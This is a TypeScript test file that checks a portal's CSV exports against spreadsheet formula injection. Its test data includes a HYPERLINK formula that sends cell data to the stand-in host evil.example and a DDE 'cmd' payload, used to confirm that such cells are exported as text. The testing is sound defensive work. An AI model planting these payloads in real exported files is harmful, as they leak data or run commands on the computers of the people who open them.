// CSV injection: a name a spreadsheet would run as a formula is exported as text by every capability that exports CSV.

import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvText, spreadsheetSafe } from './csv.js';
import { sql } from './db/index.js';
import { createTestPortal, signedIn, type TestPortal } from './testing/portal.js';

const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

describe('a CSV cell', () => {
  it('that a spreadsheet would run is written as text, with a leading apostrophe', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(spreadsheetSafe(`${start}cmd|' /C calc'!A0`)).toBe(`'${start}cmd|' /C calc'!A0`);
    expect(spreadsheetSafe(FORMULA)).toBe(`'${FORMULA}`);
  });

  it('that is ordinary text or a plain signed number is left as it is', () => {
    for (const text of ['Ahmad', 'a=b', '-12', '+3.5', '2024-01-31', '', 'Jl. Sudirman -5']) expect(spreadsheetSafe(text)).toBe(text);
  });

  it('keeps its quoting, and numbers and booleans pass through', () => {
    const text = csvText([
      ['name', 'count', 'demo'],
      [FORMULA, -3, true],
      ['a "quoted", name', 0, false],
    ]);
    expect(parse(text)).toEqual([
      ['name', 'count', 'demo'],
      [`'${FORMULA}`, '-3', '1'],
      ['a "quoted", name', '0', ''],
    ]);
  });
});

describe('every capability that exports CSV', () => {
  let portal: TestPortal;
  beforeAll(async () => {
    portal = await createTestPortal();
  });
  afterAll(() => portal.close());

  it('networks: an entity named as a formula is exported as text', async () => {
    const analyst = await signedIn(portal, { role: 'analyst', state: 'AUS', clearance: 'secret' });
    const created = await analyst.post('/api/networks/entities', {
      kind: 'person',
      name: FORMULA,
      classification: 'members',
      reliability: 'C',
      credibility: '3',
    });
    expect(created.statusCode, created.body).toBe(201);
    const csv = await analyst.get('/api/networks/export?format=csv');
    expect(csv.statusCode).toBe(200);
    const rows: string[][] = parse(csv.body);
    const caption = rows[0].indexOf('caption');
    expect(rows.map((r) => r[caption])).toContain(`'${FORMULA}`);
    expect(rows.flat()).not.toContain(FORMULA);
  });

  it('legislation: a standard whose title is a formula is exported as text', async () => {
    await portal.db.query(sql`UPDATE legislation_standards SET title = ${FORMULA} WHERE id = 'PS-2'`);
    const policy = await signedIn(portal, { role: 'policy', state: 'IDN' });
    for (const file of ['assessments.csv', 'coverage.csv']) {
      const csv = await policy.get(`/api/legislation/exports/${file}?asOf=2010-01-01&version=1`);
      expect(csv.statusCode, file).toBe(200);
      const cells = (parse(csv.body) as string[][]).flat();
      expect(cells, file).toContain(`'${FORMULA}`);
      expect(cells, file).not.toContain(FORMULA);
    }
  });
});
